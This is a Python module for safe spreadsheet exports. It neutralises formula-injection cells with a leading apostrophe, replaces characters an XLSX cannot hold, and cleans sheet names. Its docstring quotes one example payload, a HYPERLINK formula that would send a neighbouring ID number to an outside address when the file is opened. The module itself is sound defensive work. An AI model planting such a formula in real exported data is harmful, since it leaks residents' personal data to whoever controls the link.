"""Writing spreadsheets people open in Excel or WPS: no cell of user text becomes a formula,
and no name from user text breaks a sheet.

A resident named ``=HYPERLINK("http://…"&E3,"x")`` in a full export would send the ID number
beside it off when the file is opened. Every text cell that starts like a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) is written with a leading apostrophe, which Excel and
WPS show as text; numbers and dates are left alone. A control character, which an XLSX cannot
hold, is written as U+FFFD rather than failing the export.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What an XLSX cannot hold (XML 1.0 has no such characters): shown as U+FFFD instead.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Excel refuses these in a sheet's name, and a name longer than 31 characters.
_SHEET_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")


def safe_cell(value: Any) -> Any:
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("\ufffd", value)
    return "'" + value if value.startswith(_FORMULA_START) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def sheet_title(text: str, fallback: str = "Sheet") -> str:
    """A sheet name Excel accepts, from any text (a community's name, say)."""
    cleaned = _SHEET_FORBIDDEN.sub(" ", text).strip().strip("'")[:31].strip()
    return cleaned or fallback
